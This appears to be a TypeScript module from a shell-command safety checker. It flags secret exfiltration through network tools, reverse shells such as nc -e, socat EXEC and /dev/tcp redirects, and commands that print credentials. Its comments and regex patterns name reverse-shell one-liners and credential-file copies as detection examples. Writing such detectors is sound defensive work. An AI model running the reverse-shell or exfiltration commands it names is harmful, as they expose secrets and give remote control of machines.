import { programKey, readsProgramFromStdin, unwrap } from './command-words.js';
import {
  basename,
  type CommandFinding,
  type Environment,
  finding,
  INTERPRETERS,
  MAX_DEPTH,
  NETWORK_TOOLS,
  resolveWord,
  SHELLS,
} from './environment.js';
import { isSecretPath } from './secrets-paths.js';
import { parseShell, type ShellCommand, type ShellWord } from './shell-parser.js';

/** Option values that are credentials used to connect, or local output files: not data sent away. */
const HTTP_CONNECTION_OPTIONS = new Set([
  '-E',
  '-K',
  '-c',
  '-b',
  '-D',
  '-o',
  '--cert',
  '--key',
  '--cacert',
  '--capath',
  '--netrc-file',
  '--config',
  '--output',
  '--output-document',
  '--cookie',
  '--cookie-jar',
  '--dump-header',
  '--proxy-cert',
  '--proxy-key',
  '--certificate',
  '--private-key',
  '--ca-certificate',
  '--load-cookies',
  '--save-cookies',
]);
const SSH_CONNECTION_OPTIONS = new Set([
  '-i',
  '-F',
  '-o',
  '-c',
  '-J',
  '-l',
  '-P',
  '-p',
  '-S',
  '-E',
  '--identity',
]);
const WGET_VALUE_OPTIONS = new Set(['-O', '-o', '-a', '-P']);

function connectionOptions(key: string): ReadonlySet<string> {
  if (key === 'ssh' || key === 'scp' || key === 'sftp') return SSH_CONNECTION_OPTIONS;
  if (key === 'wget') return new Set([...HTTP_CONNECTION_OPTIONS, ...WGET_VALUE_OPTIONS]);
  return HTTP_CONNECTION_OPTIONS;
}

/** Whether a program sends data over the network (`openssl` only as `s_client`). */
export function isNetworkTool(key: string, args: readonly ShellWord[]): boolean {
  if (key === 'openssl') return args.some((word) => word.text === 's_client');
  return NETWORK_TOOLS.has(key);
}

/** Whether the words print the whole environment (`env`, `printenv`, `set`, `export -p`, `declare -x`). */
function dumpsEnvironment(key: string, args: readonly ShellWord[]): boolean {
  const plain = args.filter((word) => !/^[A-Za-z_][A-Za-z0-9_]*=/.test(word.text));
  const operandsLeft = plain.filter((word) => !word.text.startsWith('-'));
  if (key === 'env' || key === 'printenv') return operandsLeft.length === 0;
  if (key === 'set') return args.length === 0;
  if (key === 'export' || key === 'declare' || key === 'typeset') {
    return plain.length === 0 || plain.every((word) => /^-[xp]+$/.test(word.text));
  }
  if (key === 'compgen') return args.some((word) => word.text === '-e' || word.text === '-v');
  return false;
}

/** The secret a command reads (a credential file, or the environment), if it reads one. */
export function secretRead(command: ShellCommand, environment: Environment, depth = 0): string | undefined {
  if (depth > MAX_DEPTH) return undefined;
  for (const redirect of command.redirects) {
    if (
      redirect.operator.startsWith('<') &&
      redirect.operator !== '<<' &&
      isSecret(redirect.target, environment)
    )
      return redirect.target;
  }
  // `env` is also a wrapper: look at it before unwrapping.
  const raw = command.words;
  const first = raw.findIndex((word) => !/^[A-Za-z_][A-Za-z0-9_]*=/.test(word.text));
  if (first !== -1) {
    const key = programKey(basename(raw[first]!.text));
    if (dumpsEnvironment(key, raw.slice(first + 1))) return 'the environment';
  }
  const words = unwrap(command.words);
  const head = words[0] === undefined ? '' : programKey(basename(words[0].text));
  if (
    printsCredentials(
      head,
      words.slice(1).map((word) => word.text),
    )
  )
    return `the output of ${head}`;
  for (const word of words.slice(1)) {
    if (!word.text.startsWith('-') && isSecret(word.text, environment)) return word.text;
    const nested = substitutionSecret(word, environment, depth);
    if (nested !== undefined) return nested;
  }
  return undefined;
}

function substitutionSecret(word: ShellWord, environment: Environment, depth: number): string | undefined {
  for (const inner of word.substitutions) {
    for (const pipeline of parseShell(inner)) {
      for (const command of pipeline) {
        const secret = secretRead(command, environment, depth + 1);
        if (secret !== undefined) return secret;
      }
    }
  }
  return undefined;
}

function isSecret(text: string, environment: Environment): boolean {
  if (isSecretPath(text)) return true;
  const resolved = resolveWord({ text, substitutions: [] }, environment);
  return resolved !== undefined && (isSecretPath(resolved) || environment.secretFiles.has(resolved));
}

/** Commands whose output is a credential: exported private keys, tokens, stored passwords. */
function printsCredentials(key: string, texts: readonly string[]): boolean {
  const line = texts.join(' ');
  if (key === 'gpg' || key === 'gpg2') return /--export-secret-(?:sub)?keys/.test(line);
  if (key === 'security') return /find-(?:generic|internet)-password/.test(line);
  if (key === 'gh') return /\bauth token\b/.test(line);
  if (key === 'gcloud') return /\bauth print-(?:access|identity)-token\b/.test(line);
  if (key === 'aws')
    return /\bconfigure (?:export-credentials|get aws_secret_access_key)\b|\becr get-login-password\b/.test(
      line,
    );
  if (key === 'az') return /\baccount get-access-token\b/.test(line);
  return false;
}

/**
 * Remembers files a command wrote secrets into, for a network tool later in the line: the redirection of
 * a command that reads one (`env > /tmp/e`), or the destination of a copy of one (`cp ~/.aws/credentials x`).
 */
export function recordSecretCopies(
  key: string,
  args: readonly ShellWord[],
  command: ShellCommand,
  environment: Environment,
): void {
  const targets: string[] = [];
  const written = command.redirects.filter((redirect) => redirect.operator.includes('>'));
  if (written.length > 0 && secretRead(command, environment) !== undefined) {
    for (const redirect of written) targets.push(redirect.target);
  }
  if (key === 'cp' || key === 'mv' || key === 'install' || key === 'tar' || key === 'zip') {
    let words = args.filter((word) => !word.text.startsWith('-'));
    if (key === 'tar') {
      // The archive is the value of `f` (`tar czf out.tgz dir`, `tar -c -f out.tgz dir`, `--file=out.tgz`).
      const at = args.findIndex(
        (word, index) => /^-?[a-zA-Z]*f$/.test(word.text) && (index === 0 || word.text.startsWith('-')),
      );
      const inline = args.find((word) => word.text.startsWith('--file='));
      const archive =
        inline !== undefined ? { ...inline, text: inline.text.slice(7) } : at >= 0 ? args[at + 1] : undefined;
      const rest = args.slice(at + 2).filter((word) => !word.text.startsWith('-'));
      words = archive === undefined ? [] : [archive, ...(at >= 0 ? rest : words)];
    }
    const sources = key === 'tar' || key === 'zip' ? words.slice(1) : words.slice(0, -1);
    const destination = key === 'tar' || key === 'zip' ? words[0] : words[words.length - 1];
    if (destination !== undefined && sources.some((word) => isSecret(word.text, environment))) {
      targets.push(destination.text);
    }
  }
  for (const target of targets) {
    const path = resolveWord({ text: target, substitutions: [] }, environment);
    if (path !== undefined) environment.secretFiles.add(path);
  }
}

/** The parts of an argument that may name a file sent away: `@file`, `name=@file`, `name=<file`, `--opt=file`. */
function sentFiles(text: string): string[] {
  const candidates: string[] = [];
  const at = text.lastIndexOf('@');
  if (at !== -1) candidates.push(text.slice(at + 1));
  const lt = text.lastIndexOf('<');
  if (lt !== -1) candidates.push(text.slice(lt + 1));
  const equals = text.indexOf('=');
  if (equals !== -1) candidates.push(text.slice(equals + 1));
  candidates.push(text);
  return candidates.filter((candidate) => candidate !== '');
}

/** Whether a word names a remote location (`host:path`, `user@host:`, `remote:bucket`). */
function isRemote(text: string): boolean {
  return /^[^/.~$][^/:]*:/.test(text) && !/^[a-z]+:\/\//i.test(text);
}

/**
 * Secrets exfiltration: a network tool that sends a credential file (as data, an upload, a copy to a
 * remote, or its standard input) or the environment (piped in from `env`/`printenv`, or substituted).
 * Keys used to connect (`ssh -i`, `curl --cert`) are not sent.
 */
export function checkExfiltration(
  key: string,
  args: readonly ShellWord[],
  command: ShellCommand,
  previous: readonly ShellCommand[],
  environment: Environment,
): CommandFinding | undefined {
  if (!isNetworkTool(key, args)) return undefined;
  for (const feeder of previous) {
    const secret = secretRead(feeder, environment);
    if (secret !== undefined)
      return finding('secrets-exfiltration', `pipes ${secret} into ${key}, a network tool`);
  }
  for (const redirect of command.redirects) {
    if (
      redirect.operator.startsWith('<') &&
      redirect.operator !== '<<' &&
      isSecret(redirect.target, environment)
    )
      return finding('secrets-exfiltration', `${key} sends ${redirect.target} over the network`);
  }
  // ssh's own words are a remote command, run over there: only what is piped or redirected in is sent.
  if (key === 'ssh') return undefined;
  const remote = args.some((word) => isRemote(word.text));
  const skip = connectionOptions(key);
  for (let index = 0; index < args.length; index++) {
    const word = args[index]!;
    const nested = substitutionSecret(word, environment, 0);
    if (nested !== undefined)
      return finding('secrets-exfiltration', `${key} sends ${nested} over the network`);
    const text = word.text;
    if (skip.has(text)) {
      index++;
      continue;
    }
    if (text.startsWith('--') && skip.has(text.split('=', 1)[0]!)) continue;
    if (/^[a-z][a-z0-9+.-]*:\/\//i.test(text)) continue;
    if (/^-[a-zA-Z]$/.test(text) || (text.startsWith('-') && !text.includes('@') && !text.includes('=')))
      continue;
    const copies = key === 'scp' || key === 'sftp' || key === 'rsync' || key === 'rclone';
    if (copies && !remote) continue;
    for (const candidate of sentFiles(text)) {
      if (isSecret(candidate, environment)) {
        return finding('secrets-exfiltration', `${key} sends ${candidate} over the network`);
      }
    }
  }
  return undefined;
}

/** `nc -e /bin/sh`, `ncat --sh-exec`, `socat TCP:host:port EXEC:sh`: a program serving a shell on a socket. */
export function checkShellServer(key: string, args: readonly ShellWord[]): CommandFinding | undefined {
  const texts = args.map((word) => word.text);
  if (key === 'nc' || key === 'ncat' || key === 'netcat') {
    const serves = texts.some(
      (text) => /^-[a-zA-Z]*[ec][a-zA-Z]*$/.test(text) || /^--(?:exec|sh-exec|lua-exec)(?:=|$)/.test(text),
    );
    if (serves) return finding('reverse-shell', `${key} runs a program on a network connection`);
  }
  if (key === 'socat') {
    const runs = texts.some((text) => /^(?:exec|system):/i.test(text));
    const network = texts.some((text) =>
      /^(?:tcp|udp|sctp|openssl|ssl|tcp4|tcp6|udp4|udp6)[-:\w]*:/i.test(text),
    );
    if (runs && network) return finding('reverse-shell', 'socat connects a program to a network socket');
  }
  return undefined;
}

/** Whether the words of a command start a shell or interpreter that reads its program from standard input. */
export function isStdinShell(command: ShellCommand): boolean {
  const words = unwrap(command.words);
  if (words[0] === undefined) return false;
  const key = programKey(basename(words[0].text));
  return (SHELLS.has(key) || INTERPRETERS.has(key)) && readsProgramFromStdin(key, words.slice(1));
}

/** A pipeline that joins a shell and a network tool (`nc host 4444 | sh`, `sh -i | nc host 4444`). */
export function checkShellPipeline(
  pipeline: readonly ShellCommand[],
  index: number,
): CommandFinding | undefined {
  if (!isStdinShell(pipeline[index]!)) return undefined;
  for (let other = 0; other < pipeline.length; other++) {
    if (other === index) continue;
    const words = unwrap(pipeline[other]!.words);
    if (words[0] === undefined) continue;
    const key = programKey(basename(words[0].text));
    if (
      (isNetworkTool(key, words.slice(1)) && !/^(?:curl|wget|fetch|aria2c|http|https)$/.test(key)) ||
      key === 'telnet'
    ) {
      return finding('reverse-shell', `pipes a shell to and from ${key}, a network connection`);
    }
  }
  return undefined;
}

/** `bash -i >& /dev/tcp/host/port 0>&1`, `exec 5<>/dev/tcp/host/port`: a shell's input or output on a socket. */
export function checkSocketRedirects(command: ShellCommand): CommandFinding | undefined {
  const socket = command.redirects.find((redirect) => /^\/dev\/(?:tcp|udp)\//.test(redirect.target));
  if (socket === undefined) return undefined;
  const words = unwrap(command.words);
  const opensInShell = command.words.some((word) => word.text === 'exec') && words.length === 0;
  const key = words[0] === undefined ? '' : programKey(basename(words[0].text));
  if (opensInShell || SHELLS.has(key) || INTERPRETERS.has(key)) {
    return finding('reverse-shell', `connects a shell's input or output to ${socket.target}`);
  }
  return undefined;
}
